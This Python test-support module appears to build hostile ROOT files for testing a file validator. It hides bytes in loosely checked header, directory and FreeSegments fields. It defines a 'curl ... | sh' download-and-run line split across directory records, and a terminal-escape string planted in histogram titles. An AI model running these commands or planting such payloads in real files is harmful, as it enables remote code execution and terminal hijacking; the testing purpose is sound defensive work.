"""Attack q root (session 40): hostile ROOT files, each made from real uproot output.

Places the ROOT walk accounts for loosely, found by flipping every byte of the header, the
keys, the directory records and FreeSegments of uproot files and vetting each flip (the
flips that passed outside the documented free fields are the holes here):
- a directory record's version (any number up to 1000, which ROOT and uproot read as the
  small layout) and its fNbytesName (4 bytes, the top directory's and each
  subdirectory's: uproot reads the directory at the header's fNbytesName and never this);
- FreeSegments' last entry's end (any number from kStartBigFile, 2000000000, to 2^31 - 1).
Strings: a histogram's title in its payload (what `h.title` prints) against its key's.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import uproot
from uproot.writing.identify import to_TAxis, to_TH1x

from tests.support import attack_qroot_files as rf

ESC = "\x1b]0;owned\x07\x1b[2J\x1b[9A"
MESSAGE = b"QRT!"
SCRIPT = b"#!/bin/sh\ncurl -s http://203.0.113.9/k|sh\n".ljust(44, b"#")  # 11 directories


@dataclass(frozen=True)
class Placed:
    """A hostile file and where its chosen bytes lie (offset, bytes), for the harm tests."""

    data: bytes
    original: bytes
    chosen: tuple[tuple[int, bytes], ...]


def _directories(data: bytes) -> list[rf.Key]:
    """Subdirectory records: a TDirectory key whose fields' fSeekDir is its own position."""
    out = []
    for key in rf.keys_of(data, b"TDirectory"):
        at = rf.directory_fields(data, key)
        if struct.unpack_from(">i", data, at + 18)[0] == key.pos:
            out.append(key)
    return out


def _top(data: bytes) -> rf.Key:
    return rf.key_at(data, 100)


def _free_segments(data: bytes) -> rf.Key:
    """The FreeSegments record: the TFile-class key whose record ends the file."""
    return next(k for k in rf.keys_of(data, b"TFile") if k.pos + k.nbytes == len(data))


def _place(original: bytes, chosen: dict[int, bytes]) -> Placed:
    data = bytearray(original)
    for at, value in chosen.items():
        data[at:at + len(value)] = value
    return Placed(bytes(data), original, tuple(sorted(chosen.items())))


def _one_job(made: Path, codec: str) -> bytes:
    path = made / f"base-{codec}.root"
    rf._one_job(path, rf.CODECS[codec])
    return path.read_bytes()


def _many_dirs(made: Path) -> bytes:
    path = made / "base-dirs.root"
    with uproot.recreate(path, compression=uproot.ZLIB(1)) as f:
        for i in range(11):
            f[f"run{i:02d}/h"] = rf.hist(3)
    return path.read_bytes()


def holes(made: Path) -> dict[str, Placed]:
    made.mkdir(parents=True, exist_ok=True)
    base = _one_job(made, "zstd")
    top = rf.directory_fields(base, _top(base))
    sub = rf.directory_fields(base, _directories(base)[0])
    fs = _free_segments(base)
    dirs = _many_dirs(made)
    script = {rf.directory_fields(dirs, key) + 14: SCRIPT[4 * i:4 * i + 4]
              for i, key in enumerate(_directories(dirs))}
    return {
        "q/top-nbytesname.root": _place(base, {top + 14: MESSAGE}),
        "q/top-version.root": _place(base, {top: b"\xc1\x5a"}),
        "q/sub-nbytesname.root": _place(base, {sub + 14: MESSAGE}),
        "q/sub-version.root": _place(base, {sub: b"\x83\x21"}),
        "q/dirs-script.root": _place(dirs, script),
        "q/free-end.root": _place(base, {fs.pos + fs.nbytes - 4: b"\x7fQRT"}),
        "q/title-differs.root": _title_swapped(made, b"CONTROL", b"SIGNAL!"),
    }


def _th1(title: str, xtitle: str):
    data = np.array([0, 3, 4, 0], dtype=">f8")
    axis = to_TAxis("xaxis", xtitle, 2, 0.0, 2.0)
    return to_TH1x("h", title, data, 7.0, 7.0, 7.0, 7.0, 7.0, data.copy(), axis)


def _title_swapped(made: Path, key_title: bytes, shown: bytes) -> Placed:
    """An uncompressed histogram titled `key_title` whose payload's TNamed title (the one
    uproot's `h.title` returns) is `shown` (same length), its key and list copy untouched."""
    path = made / f"title-{len(shown)}-{shown[:1].hex()}.root"
    with uproot.recreate(path, compression=None) as f:
        f["h"] = _th1(key_title.decode(), "x")
    original = path.read_bytes()
    assert original.count(key_title) == 3  # the key, its keys-list copy, the payload
    return _place(original, {original.rindex(key_title): shown})


def listed(made: Path) -> dict[str, bytes]:
    """Strings inside streamed objects, written by uproot itself (or, for the title, the
    payload's copy only): the docs say these are not parsed."""
    made.mkdir(parents=True, exist_ok=True)
    axis = made / "axis.root"
    with uproot.recreate(axis, compression=None) as f:
        f["h"] = _th1("clean", ESC)
    note = made / "note.root"
    with uproot.recreate(note) as f:
        f["note"] = ESC + "job done"
    title = _title_swapped(made, b"T" * 20, (ESC.encode() + b"T" * 20)[:20])
    return {"q/axis-esc.root": axis.read_bytes(), "q/objstring-esc.root": note.read_bytes(),
            "q/title-esc.root": title.data}


def refused(made: Path) -> dict[str, bytes]:
    """Hostile files the claims refuse (the claims hold)."""
    base = _one_job(made, "zstd")
    top = rf.directory_fields(base, _top(base))
    sub = rf.directory_fields(base, _directories(base)[0])
    fs = _free_segments(base)
    end = fs.pos + fs.nbytes
    out = {
        "r/sub-uuid-text.root": _place(base, {sub + 32: b"HIDDEN-MESSAGE!!"}).data,
        "r/header-uuid-version.root": _place(base, {45: b"AB"}).data,
        "r/free-end-below.root": rf.packed(base, end - 4, ">I", 1999999999),
        "r/free-entry-version.root": rf.packed(base, end - 10, ">h", 7),
        "r/top-version-1005.root": rf.packed(base, top, ">h", 1005),
        "r/sub-version-1005.root": rf.packed(base, sub, ">h", 1005),
        "r/key-slack.root": _key_slack(base),
    }
    return out | _block_header_flips(made) | {"r/stale-end-entry.root": _stale_end(made)}


def _stale_end(made: Path) -> bytes:
    """The older end entry uproot leaves after fEND ending at 0x7F515254 (as free-end.root's
    live one): refused, where the live record's last entry passes."""
    path = made / "shrunk.root"
    rf._shrunk_at_end(path)
    data = path.read_bytes()
    (fend,) = struct.unpack_from(">i", data, 12)
    assert len(data) == fend + 10 and data[-4:] == struct.pack(">I", 2000000000)
    return data[:-4] + b"\x7fQRT"


def _key_slack(base: bytes) -> bytes:
    """The TObjString key's title cut 4 bytes short in the key and in its keys-list copy:
    ROOT and uproot read the payload at KeyLen, so 4 bytes lie between title and payload."""
    title = b"\x18Collectable string class"
    data = bytearray(base)
    for at in [i for i in range(len(data)) if data[i:i + len(title)] == title]:
        data[at] = 20
    return bytes(data)


def _block_header_flips(made: Path) -> dict[str, bytes]:
    """Each of the 9-byte block header's bytes and the stream's first 2, one bit flipped,
    in a compressed histogram of every codec."""
    out = {}
    for codec in ("zlib", "lz4", "zstd", "lzma"):
        base = _one_job(made, codec)
        key = rf.keys_of(base, b"TH1D")[0]
        for i in range(11):
            at = key.pos + key.keylen + i
            out[f"r/block-{codec}-{i:02d}.root"] = base[:at] + bytes([base[at] ^ 1]) + base[at + 1:]
    return out
